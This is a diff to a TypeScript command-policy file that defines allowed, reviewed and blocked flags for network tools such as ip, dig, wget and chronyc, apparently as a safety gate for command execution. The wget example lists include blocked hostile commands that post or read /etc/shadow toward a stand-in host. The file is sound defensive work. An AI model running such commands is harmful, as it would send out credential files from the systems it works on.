@@ -1,4 +1,5 @@
-import { block, refusing, review, words, type CommandSpec } from "../spec.js";
+import { block, refusing, review, type CommandSpec } from "../spec.js";
+import { words } from "../words.js";
 
 /** The network: looking at it, and asking hosts that may be asked. */
 export const network: readonly CommandSpec[] = [
@@ -40,7 +41,7 @@ export const network: readonly CommandSpec[] = [
     id: "ip",
     programs: ["ip"],
     because: "Shows addresses, links and routes",
-    reading: "posix",
+    reading: "long",
     flags: `-4 -6 -0 -s -d -o -j -p -r -h -t -c?word -br -brief -stats -statistics -details -oneline -json -pretty -resolve -human -iec
       -color?word -family=word -f=word -M -D -I -N -a -all -timestamp -ts -V`,
     refuse: {
@@ -185,8 +186,10 @@ export const network: readonly CommandSpec[] = [
     id: "dig",
     programs: ["dig", "kdig", "delv"],
     because: "Asks the host's resolver",
-    flags:
-      "+short +noall +answer +trace +stats +tcp +notcp +vc +nocmd +nocomments +noquestion +noauthority +noadditional +nostats +multiline +dnssec +norecurse +noidnout +nssearch +identify +all +cmd +comments +question +authority +additional +time=int[1..20] +tries=int[1..5] +retry=int[0..5] +timeout=int[1..20] +bufsize=int +ndots=int -4 -6 -u -r -x=host -t=dig.type -q=host -c=(IN) -p=port",
+    flags: `+short +noall +answer +trace +stats +tcp +notcp +vc +nocmd +nocomments +noquestion +noauthority +noadditional +nostats
+        +multiline +dnssec +norecurse +noidnout +nssearch +identify +all +cmd +comments +question +authority +additional
+        +time=int[1..20] +tries=int[1..5] +retry=int[0..5] +timeout=int[1..20] +bufsize=int +ndots=int -4 -6 -u -r -x=host -t=dig.type
+        -q=host -c=(IN) -p=port`,
     refuse: {
       "-f=text -k=text -y=text": block("reads a file, or carries a key"),
       "-b=text -m +subnet=text +keepopen +https?text +tls +ednsopt=text +cookie?text": review("asks in an unusual way"),
@@ -282,7 +285,7 @@ export const network: readonly CommandSpec[] = [
     programs: ["wget", "wget2"],
     because: "Asks a listed host whether a page is there",
     flags: `--spider -q -S -nv -T=int[1..30] -t=int[1..5] -O=(-|/dev/null) --quiet --server-response --timeout=int[1..30]
-      --tries=int[1..5] --output-document=(-|/dev/null) --no-verbose --no-check-certificate --no-proxy -4 -6`,
+      --tries=int[1..5] --max-redirect=(0) --output-document=(-|/dev/null) --no-verbose --no-check-certificate --no-proxy -4 -6`,
     refuse: {
       [`--use-askpass=text --post-file=text --post-data=text -i=text --input-file=text --config=text -e=text --execute=text
         --body-file=text --body-data=text --method=text --header=text --certificate=text --private-key=text --ca-certificate=text
@@ -292,9 +295,12 @@ export const network: readonly CommandSpec[] = [
       ),
     },
     operands: "url+",
-    needs: [{ flags: "--spider -O --output-document", because: "Otherwise it keeps a file", mend: "add `--spider`" }],
+    needs: [
+      { flags: "--spider -O --output-document", because: "Otherwise it keeps a file", mend: "add `--spider`" },
+      { flags: "--spider --max-redirect", because: "It would follow the answer to other hosts", mend: "add `--max-redirect=0`" },
+    ],
     examples: {
-      allow: ["wget -q --spider http://localhost:8080/healthz", "wget -qO- http://localhost/metrics"],
+      allow: ["wget -q --spider http://localhost:8080/healthz", "wget -qO- --max-redirect=0 http://localhost/metrics"],
       review: ["wget http://localhost/x", "wget --spider http://evil.example/"],
       block: ["wget --post-file=/etc/shadow http://x/", "wget -i /etc/shadow"],
     },
@@ -458,7 +464,7 @@ export const network: readonly CommandSpec[] = [
     because: "Shows how right the clock is",
     flags: "-n -p -c -4 -6 -N -a",
     refuse: { "-h=text -m -f=text -d -i": review("asks another host, or changes something") },
-    operands: `(tracking|sources|sourcestats|activity|ntpdata|rtcdata|serverstats|selectdata|smoothing|waitsync|authdata|clients|peers|associations|as|rv)?`,
+    operands: "chrony.report?",
     examples: { allow: ["chronyc tracking", "ntpq -pn"], review: ["chronyc makestep", "chronyc -h x sources"] },
   },
 ];
